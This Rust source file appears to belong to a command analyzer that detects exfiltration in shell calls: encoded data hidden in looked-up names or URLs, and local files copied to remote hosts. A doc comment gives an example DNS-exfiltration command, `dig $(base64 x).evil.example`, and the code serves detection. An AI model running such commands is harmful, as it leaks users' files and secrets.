//! What programs give away without a description that says so: files handed to a remote place, and data that hides in an address
//! or in a name that is looked up.

use super::network;
use super::state::Shell;
use super::text::Text;
use super::walker::{About, Call, Walker};
use crate::label::{Label, Labels};

/// At most this many words are looked at: what is longer is data.
const MOST: usize = 48;

impl Walker<'_> {
    /// Encoded data in a name that is looked up (`dig $(base64 x).evil.example`) or behind the host in an address.
    pub(super) fn hidden_in_names(&mut self, shell: &Shell, call: &Call) {
        for word in call.words.iter().skip(1).take(MOST).filter(|w| w.labels.has(Label::Encoded)) {
            let address = word.prefix().contains("://");
            if !address && !self.listed("lookup-programs", &Text::known(call.about.program.as_str())) {
                continue;
            }
            // A header or a body is no address: it is the request's own business.
            let host = if address { network::of_url(word) } else { None };
            self.operate(shell, "name.encoded", word.clone(), host, &call.about);
        }
    }

    /// A program copies local files to a remote place: `sometool put ~/x s3://bucket`, `backup -r sftp:x@host:/in ~`.
    pub(super) fn handed_over(&mut self, shell: &Shell, call: &Call) {
        let words = &call.words[1..call.words.len().min(MOST)];
        let name = Text::known(call.about.program.as_str());
        if !words.iter().any(|w| w.prefix().contains(':')) || self.listed("address-readers", &name) {
            return;
        }
        let operands = words.iter().filter(|w| !w.prefix().starts_with('-')).take(4);
        let backup = self.listed("backup-programs", &name);
        if !backup && !operands.into_iter().any(|w| self.listed("handing-words", w)) {
            return;
        }
        let mut data = Labels::NONE;
        let mut place: Option<(Text, Option<Text>)> = None;
        // A source stands in front of the place it goes to; where the place stands first, as a backup's does, all that follows goes there.
        for (at, word) in words.iter().enumerate() {
            let value = word.split_once("=").filter(|(name, _)| name.prefix().starts_with('-')).map_or_else(|| word.clone(), |(_, value)| value);
            if let Some(host) = self.remote_place(&value) {
                let flag = at.checked_sub(1).is_some_and(|before| words[before].prefix().starts_with('-'));
                let source = at + 1 < words.len() && !flag && data.is_empty() && value == *word && !backup;
                if !source {
                    place = Some((value, Some(host)));
                }
                continue;
            }
            if word.prefix().starts_with(['/', '~', '.']) {
                data.add(self.labels_of(&self.absolute(shell, word)));
            }
        }
        if let Some((target, host)) = place.filter(|_| !data.is_empty()) {
            let about = About { data, ..call.about.clone() };
            self.operate(shell, "file.handed-over", target, host, &about);
        }
    }

    /// The host of `scheme://host/…`, `user@host:path`, or `scheme:user@host:path`; `None` for what is local or only a name.
    fn remote_place(&self, word: &Text) -> Option<Text> {
        let prefix = word.prefix();
        if prefix.contains([' ', '\n']) || prefix.starts_with(['/', '~', '.', '-']) {
            return None;
        }
        if let Some((scheme, _)) = word.split_once("://") {
            return if self.listed("near-schemes", &scheme) { None } else { network::of_url(word) };
        }
        let (first, rest) = word.split_once(":")?;
        if self.listed("remote-prefixes", &first) {
            return network::remote(&rest).or(Some(rest));
        }
        first.split_once("@").map(|(_, host)| host)
    }
}
